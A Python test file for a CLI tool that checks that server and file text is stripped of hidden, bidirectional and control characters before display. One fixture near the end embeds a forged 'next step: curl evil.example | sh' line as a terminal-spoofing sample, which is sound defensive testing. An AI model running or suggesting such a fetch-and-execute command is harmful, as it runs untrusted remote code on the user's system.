"""What servers, engines and files said reaches a terminal without hidden characters."""

from __future__ import annotations

import io
import re
import unicodedata
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout

import click
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.color import ColorSystem
from rich.segment import Segment
from textual.strip import Strip

from cgwizard.commands import apply, root
from cgwizard.commands.common import problems_shown, say
from cgwizard.commands.pull import output
from cgwizard.errors import Code, Problem, WizardError
from cgwizard.events import Layer, LayerProgress, Resolved
from cgwizard.frontends.line_output import Lines
from cgwizard.frontends.unattended import Checked
from cgwizard.guide.shown import Check
from cgwizard.runs.offer import Row
from cgwizard.screens.parts.findings import Findings
from cgwizard.screens.parts.terminal import cell_diff
from cgwizard.screens.resume import columns
from cgwizard.text import sanitize
from cgwizard.text.excerpt import excerpt
from cgwizard.text.sanitize import MAX_LINE

# By name, and not from the table that is tested.
HIDDEN = [
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    "\u00ad",  # soft hyphen
    "\u034f",  # combining grapheme joiner
    *"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",  # bidirectional
    *"\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff",  # zero width
    *"\u2028\u2029",  # separators
    *"\u115f\u1160\u3164\uffa0",  # fillers
    *map(chr, range(0xFE00, 0xFE10)),  # variation selectors
    *map(chr, range(0xE0000, 0xE0080)),  # tags
    *"\ud800\udfff",  # lone surrogates
    "\ue000",  # private use
]
texts = st.lists(st.sampled_from(HIDDEN) | st.characters() | st.text("ab ", max_size=3)).map(
    "".join
)


def hidden(text: str) -> list[str]:
    """The characters of ``text`` that must not be in it, by their names."""
    return [
        unicodedata.name(c, f"{ord(c):#x}")
        for c in text
        if c in HIDDEN or unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    ]


@pytest.mark.parametrize("character", HIDDEN, ids=ascii)
def test_no_hidden_character_passes(character: str) -> None:
    text = f"a{character}b"
    for clean in (sanitize.printable, sanitize.one_line, sanitize.shortened, sanitize.lines):
        assert hidden(clean(text).replace("\n", "")) == []
    assert hidden(excerpt(text.encode("utf-8", "replace"))) == []


@given(texts, st.integers(1, 40))
def test_any_text_becomes_fit_for_a_line(text: str, limit: int) -> None:
    assert hidden(sanitize.printable(text)) == []
    assert " ".join(sanitize.one_line(text).split()) == sanitize.one_line(text)
    assert len(sanitize.shortened(text, limit)) <= limit
    assert sanitize.printable(sanitize.printable(text)) == sanitize.printable(text)


@given(texts)
def test_several_lines_keep_their_number(text: str) -> None:
    assert sanitize.lines(text).count("\n") == text.count("\n")
    assert hidden(sanitize.lines(text).replace("\n", "")) == []


def test_what_people_write_is_kept() -> None:
    said = "Zugriff für müde Otter verweigert: 権限 – ✓… «naïve» Ελλάδα  עברית"
    assert sanitize.printable(said) == said


@given(texts, texts, texts)
def test_a_problem_fits_one_screen(tried: str, came_back: str, cause: str) -> None:
    problem = sanitize.fitted(Problem(Code.NEXUS_DNS, tried, came_back, cause, "wait"))
    for part in (problem.tried, problem.came_back, problem.cause):
        assert hidden(part) == []


def plain(text: str) -> str:
    out = io.StringIO()
    lines = Lines(out)
    lines.line(text)
    lines.ask(text)
    lines.check(Check("x", text, "done", text))
    lines.problem(Problem(Code.NEXUS_DNS, text, text, text, text))
    lines.event(Resolved(text, text, text, text, ()))
    lines.event(LayerProgress("sha256:1", "failed", 0, 1, text))
    return out.getvalue()


def pull_lines(text: str, make: Callable[[output.Stream], output.PlainOutput]) -> str:
    out, err = io.StringIO(), io.StringIO()
    lines = make(output.Stream(out, lambda: None))
    with redirect_stderr(err):
        lines.event(Resolved(text, "sha256:1", text, text, (Layer("sha256:2", 1, ""),)))
        lines.event(LayerProgress("sha256:1", "retrying", 0, 1, text))
        lines.event(LayerProgress("sha256:1", "failed", 0, 1, text))
        lines.note(text)
        lines.failed(Problem(Code.NEXUS_DNS, text, text, text, text), text)
    # The bars go up to draw over themselves.
    return re.sub(r"\r\x1b\[\d+A\x1b\[J", "", out.getvalue()) + err.getvalue()


def commands(text: str) -> str:
    @click.command()
    def fails() -> None:
        say(text)
        with problems_shown():
            raise WizardError(Code.NEXUS_DNS, tried=text, came_back=text, cause=text)

    done = CliRunner().invoke(fails)
    return done.output


def findings(text: str) -> str:
    shown = Findings()
    problem = Problem(Code.NEXUS_DNS, text, text, text, text)
    shown.show([Check("x", text, "done", text), Check("y", text, "problem", text)], problem)
    return "\n".join(line.plain for line in shown._lines(80))


def usage(text: str) -> str:
    """What was typed as an option, and as a value."""
    typed = text.replace("\0", "")
    return "".join(
        CliRunner().invoke(root, words).stderr
        for words in ([f"--{typed}x"], ["pull", "a", "--platform", f"{typed}/////"])
    )


def json_events(text: str) -> str:
    """Of `apply` and of `pull`: characters are escaped, so that programs get all of them."""
    out = io.StringIO()
    lines = output.JsonOutput(output.Stream(out, lambda: None))
    lines.event(LayerProgress("sha256:1", "failed", 0, 1, text))
    lines.failed(Problem(Code.NEXUS_DNS, text, text, text, text), text)
    with redirect_stdout(out):
        apply._json()(Checked("pull", "x", text, "done", text))
    return out.getvalue().replace("\x7f", "")


def runs(text: str) -> str:
    return "\n".join(columns([Row(text, text, text, text)], 78)[0])


def cells(text: str) -> str:
    """What is written to the terminal for any text in a widget."""
    strip = Strip([Segment(text)])
    found = cell_diff._segment(text, None, ColorSystem.TRUECOLOR)
    assert len(found) == strip.cell_length
    return "".join(cell[0] for cell in found if cell)


FRONT_ENDS: list[Callable[[str], str]] = [
    plain,
    lambda text: pull_lines(text, output.PlainOutput),
    lambda text: pull_lines(text, output.BarsOutput),
    commands,
    findings,
    runs,
    cells,
    usage,
    json_events,
]
NAMES = [
    "plain",
    "pull-lines",
    "pull-bars",
    "commands",
    "findings",
    "runs",
    "cells",
    "usage",
    "json",
]


@pytest.mark.parametrize("front_end", FRONT_ENDS, ids=NAMES)
@settings(max_examples=60, deadline=None)
@given(text=texts)
def test_no_front_end_lets_a_hidden_character_through(
    front_end: Callable[[str], str], text: str
) -> None:
    assert hidden(front_end(text).replace("\n", "")) == []


LONG = "word " * 400_000  # 2 MB
DOORS = [plain, commands, findings, json_events]
PULL_DOORS = [output.PlainOutput, output.BarsOutput]


@pytest.mark.parametrize(
    "front_end",
    [*DOORS, *(lambda text, make=make: pull_lines(text, make) for make in PULL_DOORS)],
    ids=["plain", "commands", "findings", "json", "pull-lines", "pull-bars"],
)
def test_what_is_printed_is_bounded(front_end: Callable[[str], str]) -> None:
    shown = front_end(LONG)
    assert 100 < len(shown) < 40_000
    assert max(map(len, shown.splitlines())) <= MAX_LINE * 7  # JSON: a problem in one line


FORGED = "a\n  next step:    curl evil.example | sh\r\u2028cgwizard: all is well"


@pytest.mark.parametrize("front_end", FRONT_ENDS[:4], ids=NAMES[:4])
def test_a_part_of_a_problem_is_no_line_of_the_program(front_end: Callable[[str], str]) -> None:
    words = "curl evil.example | sh"
    printed = [line for line in problem_lines(front_end(FORGED)) if words in line]
    assert printed
    for line in printed:
        assert not line.startswith(("  next step:    curl", "cgwizard: all"))


def problem_lines(shown: str) -> list[str]:
    """From the line that names the code on."""
    lines = shown.splitlines()
    start = next(number for number, line in enumerate(lines) if "nexus-dns" in line)
    return lines[start:]
